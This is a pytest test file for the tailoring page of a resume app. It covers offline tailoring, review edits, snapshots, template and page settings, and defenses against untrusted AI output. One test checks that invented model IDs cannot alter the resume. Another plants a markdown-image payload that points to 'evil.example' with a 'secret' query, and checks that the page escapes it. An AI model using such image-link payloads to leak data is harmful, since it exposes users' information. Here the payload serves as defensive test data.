"""Tailor page: offline tailoring, coverage gaps that open the interview, review edits, snapshots, a lying model."""

from __future__ import annotations

import pytest

from app_runner import open_page, start_app, tailored_resume, use_engine, ws
from fakes import FakeEngine
from resume_core.tailoring.llm_select import SelectReply
from resume_core.bank.model import TailoredResume
from resume_core.storage.store import open_store
from resume_core.tailoring.summary import SummaryReply
from tailor_banks import make_bank, make_posting

pytestmark = pytest.mark.timeout(120)


@pytest.fixture(autouse=True)
def store(tailor_store):
    return tailor_store


def tailored(engine=None):
    at = start_app()
    if engine is not None:
        use_engine(at, engine)
    open_page(at, "tailor")
    at.button(key="tailor_run").click().run()
    return at


def page_text(at) -> str:
    return "\n".join(m.value for m in at.markdown)


def test_offline_tailoring_shows_the_resume_and_hands_it_to_export(store):
    at = tailored()
    assert not at.exception
    assert "Wrote Terraform modules used by 12 teams" in page_text(at)
    text = page_text(at)  # the office party serves nothing: it may only fill the small page, after the rest
    assert "summer party" not in text or text.index("summer party") > text.index("Wrote Terraform modules")
    resume = tailored_resume(at)
    assert isinstance(resume, TailoredResume) and ws(at).tailored.posting_id == "pst-target"
    assert len(at.dataframe) >= 2  # coverage and provenance


# Tailoring as of TP_TODAY and a gap opening the interview: tests/test_workspace.py and
# tests/app/test_tailor_coverage_tab.py.


def test_review_edits_show_up_in_the_provenance(store):
    at = tailored()
    at.button(key=next(b.key for b in at.button if b.key.startswith("tailor_out_acc-n2"))).click().run()
    assert "acc-n2" not in [line.item_id for line in tailored_resume(at).lines()]
    at.selectbox(key=next(s.key for s in at.selectbox if s.key.startswith("tailor_edit_pick"))).set_value("acc-n1").run()
    area = next(t for t in at.text_area if t.key.startswith("tailor_edit_text_acc-n1"))
    area.set_value("Migrated 40 services to Kubernetes, cutting cost by a third").run()
    at.button(key=next(b.key for b in at.button if b.key.startswith("tailor_edit_"))).click().run()
    line = next(x for x in tailored_resume(at).lines() if x.item_id == "acc-n1")
    assert line.provenance == "edited"
    provenance = at.dataframe[-1].value
    assert "your edit" in set(provenance["Source"])


def test_snapshot_keeps_the_text_and_shows_later_changes(store):
    at = tailored()
    at.button(key=next(b.key for b in at.button if b.key.startswith("tailor_snapshot"))).click().run()
    snapshots = store.list_snapshots("pst-target")
    assert len(snapshots) == 1 and snapshots[0].resume == tailored_resume(at)
    at.button(key=next(b.key for b in at.button if b.key.startswith("tailor_out_acc-n2"))).click().run()
    assert any("Wrote Terraform" in c.value for c in at.code)


def test_saving_a_snapshot_keeps_the_note_and_empties_the_box(store):
    at = tailored()
    at.text_input(key="tailor_snapshot_note").input("sent to Acme")
    at.button(key=next(b.key for b in at.button if b.key.startswith("tailor_snapshot"))).click().run()
    assert not at.exception
    assert [s.note for s in store.list_snapshots("pst-target")] == ["sent to Acme"]
    assert at.text_input(key="tailor_snapshot_note").value == ""
    assert any("Snapshot saved" in s.value for s in at.success)


def test_a_model_returning_bad_ids_cannot_change_the_text(store):
    injected = "Led Google's search team"
    bad = SelectReply.model_validate({"items": [{"id": injected, "serves": ""}, {"id": "acc-n1", "serves": ""},
                                                {"id": "acc-n1", "serves": ""}]})
    at = tailored(FakeEngine(extract=[bad, SummaryReply(summary="Platform engineer.")]))
    assert not at.exception
    assert injected not in page_text(at)
    assert any("unknown or repeated" in w.value for w in at.warning)
    bullets = [line.item_id for line in tailored_resume(at).lines()]
    assert bullets.count("acc-n1") == 1


IMAGE = "![x](https://evil.example/?q=secret)"


def test_bank_and_model_text_is_shown_as_text_never_as_an_image(workspace):
    """A bullet or an AI summary holding ![](url) would make the browser fetch the URL: it is escaped."""
    from ui.markdown import escape_markdown

    bank = make_bank()
    bank.jobs[0].accomplishments[1].text = f"Wrote Terraform modules used by 12 teams {IMAGE}"
    store = open_store("local", str(workspace))
    store.save_bank(bank, None)
    store.save_posting(make_posting(), None)
    at = tailored(FakeEngine(extract=[SelectReply.model_validate({"items": []}),
                                      SummaryReply(summary=f"Platform engineer at Google {IMAGE}")]))
    assert not at.exception
    shown = [m.value for m in [*at.markdown, *at.warning]]
    assert not any("![x](" in text for text in shown), [t for t in shown if "![x](" in t]
    assert any(escape_markdown(bank.jobs[0].accomplishments[1].text) in text for text in shown)  # review bullet
    assert any(escape_markdown(IMAGE) in w.value for w in at.warning)  # the AI's suggested summary, flagged


def test_template_and_paper_are_one_choice_shared_with_export(store):
    at = tailored()
    box, radio = at.selectbox(key="tailor_template"), at.radio(key="tailor_paper")
    assert box.options == ["Classic", "Modern", "Compact"] and radio.options == ["Letter", "A4"]
    box.set_value("modern").run()
    at.radio(key="tailor_paper").set_value("a4").run()
    assert any("of an A4 page with the Modern template" in c.value for c in at.caption)
    open_page(at, "export")
    assert not at.exception
    assert at.selectbox(key="export_template").value == "modern" and at.radio(key="export_paper").value == "a4"
    assert any(c.value.startswith("Modern, A4,") for c in at.caption)
    at.selectbox(key="export_template").set_value("compact").run()
    at.radio(key="export_paper").set_value("letter").run()
    open_page(at, "tailor")
    assert at.selectbox(key="tailor_template").value == "compact" and at.radio(key="tailor_paper").value == "letter"
    assert any("of a Letter page with the Compact template" in c.value for c in at.caption)


def test_two_pages_is_one_choice_shared_with_export_and_tailors_for_two_pages(store):
    at = tailored()
    radio = at.radio(key="tailor_pages")
    assert radio.options == ["One page", "Two pages"] and radio.value == 1  # one page by default
    one = len(tailored_resume(at).lines())
    radio.set_value(2).run()
    at.button(key="tailor_run").click().run()
    assert not at.exception
    assert any("of two Letter pages with the Classic template" in c.value for c in at.caption)
    assert len(tailored_resume(at).lines()) >= one  # a small bank has no more to add, and loses nothing
    open_page(at, "export")
    assert not at.exception
    assert at.radio(key="export_pages").value == 2
    at.radio(key="export_pages").set_value(1).run()
    open_page(at, "tailor")
    assert at.radio(key="tailor_pages").value == 1
